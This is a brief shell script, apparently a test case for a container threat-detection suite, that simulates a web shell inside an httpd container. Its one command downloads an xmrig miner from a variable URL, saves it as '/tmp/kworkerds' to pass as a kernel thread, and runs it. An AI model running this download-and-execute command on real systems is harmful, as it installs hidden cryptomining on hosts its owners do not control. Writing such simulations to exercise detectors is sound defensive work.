#!/bin/sh
# malicious: a web shell downloads a miner into the container and runs it; it connects to a pool on 127.0.0.1:3333
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "curl -s -o /tmp/kworkerds $URL/xmrig && chmod +x /tmp/kworkerds && /tmp/kworkerds"
